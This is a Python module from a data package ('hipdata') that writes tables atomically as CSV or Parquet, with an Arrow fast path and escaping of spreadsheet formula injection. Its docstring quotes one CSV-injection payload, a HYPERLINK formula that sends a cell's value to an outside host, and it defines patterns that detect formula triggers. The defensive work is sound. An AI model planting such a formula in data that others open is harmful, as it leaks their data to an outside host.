"""Every table hipdata writes goes through here: CSV (formula-safe) or Parquet, atomically.

Spreadsheet programs (Excel, LibreOffice Calc, Google Sheets) run a CSV cell as a formula when it
starts with ``=``, ``+``, ``-`` or ``@`` (and tab / carriage return lead to the same in some
import paths): an id such as ``=HYPERLINK("http://x?"&A1)`` in an input file would otherwise
become a live formula in ``quarantine.csv`` or ``audit_indicators.csv`` on a clinic lead's
machine. Following the OWASP guidance on CSV injection, every *text* cell of a CSV written here
that begins with one of those characters gets a leading apostrophe ``'`` (spreadsheets show the
cell as the text after it). Numbers are never touched: columns with a numeric dtype are written
exactly as before, and a text cell that is a plain decimal number (``-3``, ``+2.5``, ``1e-3``)
is left as it is, because a spreadsheet reads it as that number, never as a formula.
"""

from __future__ import annotations

import os
import re
import uuid
from collections.abc import Mapping
from pathlib import Path

import numpy as np
import pandas as pd

FORMATS = {"csv": ".csv", "parquet": ".parquet"}

#: Characters that make a spreadsheet treat a leading cell as a formula (OWASP: ``= + - @``, tab,
#: carriage return), plus their full-width forms, which some spreadsheet locales fold into them.
FORMULA_TRIGGERS = "=+-@\t\r\uff1d\uff0b\uff0d\uff20"
_SIGNS = "=+\\-@\uff1d\uff0b\uff0d\uff20"
#: A trigger as the first character, or as the first non-blank one (a spreadsheet that trims
#: spaces on import would otherwise see the formula), or right after a ``;``, the separator a
#: spreadsheet in a semicolon locale splits an unquoted cell at.
_LEADING = re.compile(rf"^(?:[\t\r]|\s*[{_SIGNS}])")
_DANGEROUS = re.compile(rf"^(?:[\t\r]|\s*[{_SIGNS}])|;\s*[{_SIGNS}]")
_PLAIN_NUMBER = re.compile(r"^[+-]?(?:[0-9]+(?:[.,][0-9]*)?|[.,][0-9]+)(?:[eE][+-]?[0-9]+)?$")
_AFTER_SEMICOLON = re.compile(rf"(;\s*)(?=[{_SIGNS}])")


def neutralise_text(values: pd.Series) -> pd.Series:
    """Make text cells inert in a spreadsheet; non-text values are returned unchanged.

    A text cell is escaped when it begins with ``=``, ``+``, ``-``, ``@`` (or their full-width
    forms), a tab or a carriage return, also after leading blanks: it gets a leading apostrophe
    ``'``. A ``;`` followed by such a character inside a cell gets an apostrophe after it too
    (a spreadsheet set to split at ``;`` would start a new cell there). Cells that are plain
    decimal numbers (``-3``, ``+2.5``, ``-1e-3``) are not formulas and stay as they are.

    Parameters
    ----------
    values : Series
        Any column; only its ``str`` elements can change.

    Returns
    -------
    Series
        A copy with the escaped text (same index and, for non-text columns, same dtype).

    Examples
    --------
    >>> import pandas as pd
    >>> neutralise_text(pd.Series(["=1+1", "-2+3", "-3", "@SUM(A1)", "C1", "x;=2"])).tolist()
    ["'=1+1", "'-2+3", '-3', "'@SUM(A1)", 'C1', "x;'=2"]
    """
    if not (
        pd.api.types.is_object_dtype(values.dtype)
        or pd.api.types.is_string_dtype(values.dtype)
        or isinstance(values.dtype, pd.CategoricalDtype)
    ):
        return values
    values = values.astype(object) if isinstance(values.dtype, pd.CategoricalDtype) else values
    if pd.api.types.is_string_dtype(values.dtype) and values.dtype != object:
        # a text dtype (Arrow-backed by default): look at its distinct values before copying it
        distinct = pd.Series(values.unique(), dtype=object).dropna()
        if not _dangerous(distinct).any():
            return values
    cells = values.astype(object)
    if pd.api.types.infer_dtype(cells, skipna=True) in ("string", "empty"):
        is_text = cells.notna().to_numpy()
    else:  # mixed objects: only the str elements are text
        is_text = cells.map(lambda value: isinstance(value, str)).to_numpy(dtype=bool)
    if not is_text.any():
        return values
    # the rules run once per distinct text (ids and names repeat down a table)
    codes, uniques = pd.factorize(cells[is_text])
    distinct = pd.Series(uniques, dtype=object)
    dangerous = _dangerous(distinct)
    if not dangerous.any():
        return values
    fixed = distinct.copy()
    risky = distinct[dangerous]
    escaped = risky.str.replace(_AFTER_SEMICOLON, r"\1'", regex=True)
    fixed[dangerous] = escaped.where(~risky.str.contains(_LEADING), "'" + escaped)
    out = cells.to_numpy(copy=True)
    out[np.flatnonzero(is_text)] = fixed.to_numpy()[codes]
    return pd.Series(out, index=values.index, name=values.name, dtype=object)


def _dangerous(distinct: pd.Series) -> pd.Series:
    """Which of these (str) cells :func:`neutralise_text` escapes."""
    return distinct.str.contains(_DANGEROUS) & ~distinct.str.fullmatch(_PLAIN_NUMBER)


def csv_ready(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` shaped for the contract's CSV conventions, safe to open in a spreadsheet.

    Booleans become ``true`` / ``false`` (missing stays empty), float columns holding only whole
    numbers become nullable integers, so ``3.0`` is written ``3`` (a value written ``3`` reads
    back as the same number), and text cells (and column names) that a spreadsheet would run as
    a formula are escaped by :func:`neutralise_text`. Dates are formatted by
    :func:`write_tables`.
    """
    out = frame.copy()
    for position in range(out.shape[1]):
        ready = _ready_column(out.iloc[:, position])
        if ready is not None:
            out.isetitem(position, ready)
    out.columns = neutralise_text(pd.Series(list(out.columns), dtype=object)).tolist()
    return out


def whole_numbers(present) -> bool:
    """Whether these (non-missing) floats are all whole numbers an ``int64`` holds
    (``|x| < 2**63``, finite): :func:`csv_ready` writes such a column without ``.0``; any other
    float column (``1e20`` among whole numbers included) keeps its float text."""
    values = np.asarray(present, dtype=np.float64)
    return bool(
        np.isfinite(values).all()
        and (values == np.round(values)).all()
        and (np.abs(values) < 2.0**63).all()
    )


def _ready_column(values: pd.Series) -> pd.Series | None:
    """One column as :func:`csv_ready` shapes it (None: a float column left as it is)."""
    if pd.api.types.is_bool_dtype(values.dtype):
        words = np.where(values.fillna(False).astype(bool), "true", "false")
        return pd.Series(words, index=values.index, dtype="object").where(values.notna(), None)
    if pd.api.types.is_float_dtype(values.dtype):
        if whole_numbers(values.dropna()):
            return values.round().astype("Int64")
        return None
    return neutralise_text(values)


def write_csv(frame: pd.DataFrame, path: str | os.PathLike) -> Path:
    """Write one table as a formula-safe CSV (CONTRACT §5 conventions), atomically.

    The one CSV writer of hipdata: :func:`write_tables`, the CLI and the reports all end here.
    Dates are written ``YYYY-MM-DD``, booleans ``true``/``false``, missing values as empty
    cells, whole-number columns without ``.0``; UTF-8, comma separated, ``\\n`` line ends.
    """
    path = Path(path)
    _atomic(path, lambda temp: _to_csv(frame, temp))
    return path


def _to_csv(frame: pd.DataFrame, target) -> None:
    write_table_csv(frame, target)


def write_table_csv(frame: pd.DataFrame, target) -> None:
    """``write_csv_text(csv_ready(frame), target)``, byte for byte, in one pass (not atomic).

    The columns Arrow can write are converted straight from ``frame`` (:func:`csv_ready`'s copy
    of the frame and its nullable-integer columns are skipped); integer-valued and date columns
    with a narrow range of values go to Arrow as a dictionary of their texts (Arrow formats each
    distinct value once). Every other column goes through :func:`csv_ready`'s own steps, and a
    table Arrow cannot write as pandas would is written by pandas, as in :func:`write_csv_text`.

    Parameters
    ----------
    frame : DataFrame
        The table, before :func:`csv_ready`; its index is not written.
    target : path or binary file
        Where to write.
    """
    plan = _direct_plan(frame)
    if plan is None:
        write_csv_text(csv_ready(frame), target)
        return
    names, columns = plan
    if hasattr(target, "write"):
        _write_direct(names, columns, len(frame), target)
        return
    with open(target, "wb") as handle:
        _write_direct(names, columns, len(frame), handle)


def _write_direct(names: list[str], columns, rows: int, handle) -> None:
    import pyarrow as pa
    import pyarrow.csv as pa_csv

    options = pa_csv.WriteOptions(include_header=False, batch_size=1 << 16, quoting_style="none")
    handle.write((",".join(names) + "\n").encode("utf-8"))
    labels = [f"c{i}" for i in range(len(columns))]
    for begin in range(0, rows, CSV_SLICE_ROWS):
        end = min(begin + CSV_SLICE_ROWS, rows)
        arrays = [convert(begin, end) for convert in columns]
        pa_csv.write_csv(pa.Table.from_arrays(arrays, names=labels), handle, options)


def _direct_plan(frame: pd.DataFrame):
    """The header names and, per column, a function ``(begin, end) -> Arrow array`` giving the
    text ``write_csv_text(csv_ready(frame))`` writes for those rows; None when that writer
    would hand the table to pandas."""
    names = neutralise_text(pd.Series(list(frame.columns), dtype=object)).tolist()
    if len(names) < 2 or not all(type(name) is str for name in names):
        return None
    if any(_NEEDS_QUOTES.search(name) for name in names):
        return None
    # the columns that most often send a table to pandas (text with commas or quotes, dates
    # out of range) first: a table that falls back then wastes little work here
    dtypes = list(frame.dtypes)
    first = [
        i for i, dtype in enumerate(dtypes) if not isinstance(dtype, np.dtype) or dtype.kind in "OM"
    ]
    rest = [i for i in range(len(dtypes)) if i not in set(first)]
    columns = {}
    for position in first + rest:
        convert = _direct_column(frame.iloc[:, position])
        if convert is None:
            return None
        columns[position] = convert
    return names, [columns[position] for position in range(len(dtypes))]


#: Largest span of values (max - min) an integer or date column is written through a dictionary
#: of its texts; wider columns are formatted by Arrow value by value.
DICTIONARY_SPAN = 1 << 16


def _direct_column(values: pd.Series):
    """One column's converter for :func:`_direct_plan`, or None."""
    import pyarrow as pa

    dtype = values.dtype
    if dtype == np.dtype(bool) or isinstance(dtype, pd.BooleanDtype):
        truth = values.to_numpy(dtype=bool, na_value=False).astype(np.int8)
        missing = values.isna().to_numpy()
        words = pa.array(["false", "true"])
        return lambda b, e: pa.DictionaryArray.from_arrays(
            pa.array(truth[b:e], mask=missing[b:e]), words
        )
    if isinstance(dtype, np.dtype) and dtype.kind == "f":
        numbers = values.to_numpy()
        missing = np.isnan(numbers)
        present = numbers[~missing]
        if not whole_numbers(present):
            return _float_words(numbers, missing)
        if len(present) == 0:
            return _integers(np.zeros(len(numbers), dtype=np.int64), missing)
        low, high = present.min(), present.max()
        if max(-low, high) >= 2.0**62:
            return _csv_ready_column(values)  # 2**62 <= |x| < 2**63: astype("Int64") itself
        if high - low > DICTIONARY_SPAN:
            return _integers(np.where(missing, 0, numbers).astype(np.int64), missing)
        # whole numbers in a narrow range: their offsets from the least one index its text
        words = pa.array(np.arange(int(low), int(high) + 1, dtype=np.int64).astype(str))
        offsets = numbers - low
        offsets[missing] = 0
        indices = offsets.astype(np.int32)
        return lambda b, e: pa.DictionaryArray.from_arrays(
            pa.array(indices[b:e], mask=missing[b:e]), words
        )
    if isinstance(dtype, np.dtype) and dtype.kind in "iu":
        return _integers(values.to_numpy(), None)
    if isinstance(values.array, pd.arrays.IntegerArray):
        numbers = values.to_numpy(dtype=dtype.numpy_dtype, na_value=0)
        return _integers(numbers, values.isna().to_numpy())
    if isinstance(dtype, np.dtype) and dtype.kind == "M":
        return _dates(values)
    if (
        pd.api.types.is_string_dtype(dtype)
        and not pd.api.types.is_object_dtype(dtype)
        and not isinstance(dtype, pd.CategoricalDtype)
    ):
        # neutralise_text and _arrow_converter each look at the distinct values: once here
        distinct = pd.Series(values.unique(), dtype=object).dropna()
        if _dangerous(distinct).any():
            return _csv_ready_column(values)
        try:
            if distinct.str.contains(_NEEDS_QUOTES).any():
                return None
            pa.array(distinct.to_numpy(), type=pa.string())
        except (pa.ArrowException, UnicodeError):
            return None
        return lambda b, e: _text(values.iloc[b:e])
    return _csv_ready_column(values)


def _csv_ready_column(values: pd.Series):
    """The converter of a column shaped by :func:`csv_ready`'s own steps, or None."""
    ready = _ready_column(values)
    ready = values if ready is None else ready
    convert = _arrow_converter(ready, None)
    if convert is None:
        return None
    return lambda b, e: convert(ready.iloc[b:e])


def _integers(numbers: np.ndarray, missing: np.ndarray | None):
    """Integers (``missing``: the null cells, whose ``numbers`` are ignored) as Arrow arrays
    whose CSV text is their decimal digits."""
    import pyarrow as pa

    present = numbers if missing is None else numbers[~missing]
    low = int(present.min()) if len(present) else 0
    high = int(present.max()) if len(present) else 0
    if len(present) == 0 or high - low > DICTIONARY_SPAN or max(-low, high) >= 1 << 62:
        if missing is None:
            return lambda b, e: pa.array(numbers[b:e])
        return lambda b, e: pa.array(numbers[b:e], mask=missing[b:e])
    words = pa.array(np.arange(low, high + 1, dtype=np.int64).astype(str))
    indices = (numbers.astype(np.int64) - low).astype(np.int32)
    if missing is None:
        return lambda b, e: pa.DictionaryArray.from_arrays(pa.array(indices[b:e]), words)
    indices[missing] = 0
    return lambda b, e: pa.DictionaryArray.from_arrays(
        pa.array(indices[b:e], mask=missing[b:e]), words
    )


def _float_words(numbers: np.ndarray, missing: np.ndarray):
    """Floats as NumPy's text of each (``str`` of the array, as pandas writes them), computed
    once per distinct value (by bit pattern: ``-0.0`` and ``0.0`` stay apart); NaN empty."""
    import pyarrow as pa

    bits = numbers.view(np.dtype(f"i{numbers.dtype.itemsize}"))
    codes, distinct = pd.factorize(bits[~missing])
    words = pa.array(distinct.astype(bits.dtype).view(numbers.dtype).astype(str))
    indices = np.zeros(len(numbers), dtype=np.int32)
    indices[~missing] = codes
    return lambda b, e: pa.DictionaryArray.from_arrays(
        pa.array(indices[b:e], mask=missing[b:e]), words
    )


def _dates(values: pd.Series):
    """A naive date-time column as its calendar days (``YYYY-MM-DD``), or None outside the
    years 1000-9999 (pandas writes those without padding)."""
    import pyarrow as pa

    missing = values.isna().to_numpy()
    days = values.to_numpy().astype("datetime64[D]")
    present = days[~missing]
    if len(present) and (
        present.min() < np.datetime64("1000-01-01") or present.max() > np.datetime64("9999-12-31")
    ):
        return None
    ticks = np.where(missing, 0, days.view(np.int64))
    if (
        len(present) == 0
        or int(ticks[~missing].max()) - int(ticks[~missing].min()) > DICTIONARY_SPAN
    ):
        ticks = ticks.astype(np.int32)
        return lambda b, e: pa.array(ticks[b:e], type=pa.date32(), mask=missing[b:e])
    low = ticks[~missing].min()
    high = ticks[~missing].max()
    words = pa.array(np.datetime_as_string(np.arange(low, high + 1).astype("datetime64[D]")))
    indices = np.where(missing, 0, ticks - low).astype(np.int32)
    return lambda b, e: pa.DictionaryArray.from_arrays(
        pa.array(indices[b:e], mask=missing[b:e]), words
    )


#: Characters that make Python's csv writer (``QUOTE_MINIMAL``, ``\n`` line ends) quote a cell,
#: or that Arrow's writer refuses unquoted: a table holding one is written by pandas.
_NEEDS_QUOTES = re.compile(r'[,"\r\n]')


def write_csv_text(
    frame: pd.DataFrame, target, *, float_format: str | None = None, date_format: str = "%Y-%m-%d"
) -> None:
    """Write ``frame`` exactly as ``DataFrame.to_csv`` writes it, fast where Arrow can.

    The text is byte for byte that of ``frame.to_csv(target, index=False, na_rep="",
    lineterminator="\\n", date_format=date_format, float_format=float_format)`` (UTF-8): a
    table whose every column has a kind listed below, and whose names and text cells need no
    quotes, is written by Arrow's C++ CSV writer (:func:`pyarrow.csv.write_csv`), in slices of
    ``CSV_SLICE_ROWS`` rows, from columns prepared to give pandas' text; any other table (or a
    ``date_format`` other than ``"%Y-%m-%d"``) is written by pandas.

    - integers (NumPy or nullable): decimal digits, as both write them;
    - floats (NumPy): without ``float_format``, NumPy's shortest round-trip text (what pandas
      writes: ``str`` of the array); with it, ``float_format % value``, computed once per
      distinct value; NaN empty;
    - booleans: ``True`` / ``False`` (missing empty);
    - text (``str``, or ``object`` holding only ``str``): as is, once its distinct values are
      checked for ``,``, ``"``, carriage returns and line ends (pandas would quote those);
    - dates and times (timezone-naive, years 1000-9999) with ``"%Y-%m-%d"``: the calendar day
      (``datetime64[D]``, which floors as ``strftime`` does); NaT empty.

    Parameters
    ----------
    frame : DataFrame
        The table; its index is not written.
    target : path or binary file
        Where to write.
    float_format : str, optional
        A ``%`` format for floats, as pandas' ``float_format``.
    date_format : str
        As pandas' ``date_format``.
    """
    converters = _arrow_converters(frame, float_format, date_format)
    if converters is None:
        frame.to_csv(
            target,
            index=False,
            date_format=date_format,
            float_format=float_format,
            na_rep="",
            lineterminator="\n",
        )
        return
    if hasattr(target, "write"):
        _write_arrow_csv(frame, converters, target)
        return
    with open(target, "wb") as handle:
        _write_arrow_csv(frame, converters, handle)


#: Rows per slice that :func:`write_csv_text` converts and hands to Arrow at a time (bounds the
#: memory of the text made for float columns).
CSV_SLICE_ROWS = 1 << 18


def _write_arrow_csv(frame: pd.DataFrame, converters, handle) -> None:
    import pyarrow as pa
    import pyarrow.csv as pa_csv

    options = pa_csv.WriteOptions(include_header=False, batch_size=1 << 16, quoting_style="none")
    handle.write((",".join(frame.columns) + "\n").encode("utf-8"))
    names = [f"c{i}" for i in range(len(converters))]
    for begin in range(0, len(frame), CSV_SLICE_ROWS):
        rows = frame.iloc[begin : begin + CSV_SLICE_ROWS]
        columns = [convert(rows.iloc[:, i]) for i, convert in enumerate(converters)]
        pa_csv.write_csv(pa.Table.from_arrays(columns, names=names), handle, options)


def _arrow_converters(frame: pd.DataFrame, float_format, date_format):
    """Per column, a function from a slice of it to an Arrow array whose CSV text is pandas';
    None when that is not certain for some column (then pandas writes the table)."""
    names = list(frame.columns)
    # One column: Python's csv writer quotes an empty cell alone on its line (``""``).
    if len(names) < 2 or not all(type(name) is str for name in names):
        return None
    if date_format != "%Y-%m-%d" or not (float_format is None or isinstance(float_format, str)):
        return None
    if any(_NEEDS_QUOTES.search(name) for name in names):
        return None
    converters = []
    for position in range(frame.shape[1]):
        convert = _arrow_converter(frame.iloc[:, position], float_format)
        if convert is None:
            return None
        converters.append(convert)
    return converters


def _arrow_converter(values: pd.Series, float_format):
    """The converter of one column for :func:`_arrow_converters`, or None."""
    import pyarrow as pa

    dtype = values.dtype
    if isinstance(dtype, np.dtype) and dtype.kind in "iu":
        return lambda part: pa.array(part.to_numpy())
    if isinstance(dtype, pd.api.extensions.ExtensionDtype) and dtype.kind in "iu":
        if not isinstance(values.array, pd.arrays.IntegerArray):
            return None
        return lambda part: pa.array(
            part.to_numpy(dtype=dtype.numpy_dtype, na_value=0), mask=part.isna().to_numpy()
        )
    if dtype == np.dtype(bool) or isinstance(dtype, pd.BooleanDtype):
        return _boolean_words
    if isinstance(dtype, np.dtype) and dtype.kind == "f":
        if float_format is None:  # pandas: ``values.astype(str)``, NaN as na_rep
            return lambda part: pa.array(part.to_numpy().astype(str), mask=part.isna().to_numpy())
        return lambda part: _formatted_floats(part, float_format)
    if isinstance(dtype, np.dtype) and dtype.kind == "M":
        days = values.dropna().to_numpy().astype("datetime64[D]")
        if len(days) and (
            days.min() < np.datetime64("1000-01-01") or days.max() > np.datetime64("9999-12-31")
        ):
            return None  # pandas writes such years without padding to four digits
        return _calendar_days
    if isinstance(dtype, pd.CategoricalDtype) or not pd.api.types.is_string_dtype(dtype):
        return None
    if pd.api.types.is_object_dtype(dtype) and pd.api.types.infer_dtype(
        values, skipna=True
    ) not in ("string", "empty"):
        return None
    distinct = pd.Series(values.unique(), dtype=object).dropna()
    try:
        if distinct.str.contains(_NEEDS_QUOTES).any():
            return None
        pa.array(distinct.to_numpy(), type=pa.string())  # raises on text UTF-8 cannot hold
    except (pa.ArrowException, UnicodeError):  # e.g. a lone surrogate: pandas raises the error
        return None
    return _text


def _boolean_words(part: pd.Series):
    import pyarrow as pa

    truth = part.to_numpy(dtype=bool, na_value=False).astype(np.int8)
    indices = pa.array(truth, mask=part.isna().to_numpy())
    return pa.DictionaryArray.from_arrays(indices, pa.array(["False", "True"]))


def _formatted_floats(part: pd.Series, float_format: str):
    """``float_format % value`` per distinct value (by bit pattern: -0.0 and 0.0 apart)."""
    import pyarrow as pa

    numbers = part.to_numpy()
    missing = np.isnan(numbers)
    bits = numbers.view(np.dtype(f"i{numbers.dtype.itemsize}"))
    codes, distinct = pd.factorize(bits[~missing])
    words = [float_format % number for number in distinct.view(numbers.dtype)]
    indices = np.zeros(len(numbers), dtype=np.int64)
    indices[~missing] = codes
    return pa.DictionaryArray.from_arrays(
        pa.array(indices, mask=missing), pa.array(words, type=pa.string())
    )


def _calendar_days(part: pd.Series):
    import pyarrow as pa

    days = part.to_numpy().astype("datetime64[D]").view(np.int64)
    return pa.array(days.astype(np.int32), type=pa.date32(), mask=part.isna().to_numpy())


def _text(part: pd.Series):
    import pyarrow as pa

    cells = part.to_numpy() if pd.api.types.is_object_dtype(part.dtype) else part.array
    return pa.array(cells, from_pandas=True)


def _atomic(path: Path, write) -> None:
    # A hidden name in the same folder (os.replace is atomic only within one file system); not
    # mkstemp, whose 0600 mode would survive the rename and hide the table from other users.
    temp_name = path.with_name(f".{path.name}.{uuid.uuid4().hex}.tmp")
    try:
        write(temp_name)
        os.replace(temp_name, path)
    except BaseException:
        Path(temp_name).unlink(missing_ok=True)
        raise


def _write_one(frame: pd.DataFrame, path: Path, fmt: str) -> None:
    if fmt == "csv":
        _atomic(path, lambda temp: _to_csv(frame, temp))
    else:
        _atomic(path, lambda temp: frame.to_parquet(temp, index=False))


def write_tables(
    tables: Mapping[str, pd.DataFrame], out_dir: str | os.PathLike, *, format: str = "csv"
) -> dict[str, Path]:
    """Write each table as ``out_dir/<name>.csv`` (or ``.parquet``), creating ``out_dir``.

    Each file is written to a temporary name in ``out_dir`` and moved into place with
    :func:`os.replace`, so a reader never sees a half-written table and a failed write leaves the
    previous file intact. CSV follows CONTRACT §5: dates ``YYYY-MM-DD``, booleans
    ``true``/``false``, missing values empty, whole-number columns without ``.0``; UTF-8, comma
    separated; text cells that a spreadsheet would run as a formula get a leading ``'``
    (:func:`neutralise_text`). Parquet keeps the DataFrame's dtypes and values as they are (it is
    not opened as formulas).

    Parameters
    ----------
    tables : mapping of str to DataFrame
        Table name -> table, e.g. the result of :func:`hipdata.metrics.compute_all`.
    out_dir : path
        The output folder.
    format : {"csv", "parquet"}
        File format.

    Returns
    -------
    dict of str to Path
        Table name -> file written.
    """
    if format not in FORMATS:
        raise ValueError(f"unknown format {format!r}: use one of {', '.join(FORMATS)}")
    out_dir = Path(out_dir)
    out_dir.mkdir(parents=True, exist_ok=True)
    written: dict[str, Path] = {}
    for name, frame in tables.items():
        if not name or Path(name).name != name or name.startswith("."):
            raise ValueError(f"table name {name!r} cannot be used as a file name")
        path = out_dir / f"{name}{FORMATS[format]}"
        _write_one(frame, path, format)
        written[name] = path
    return written
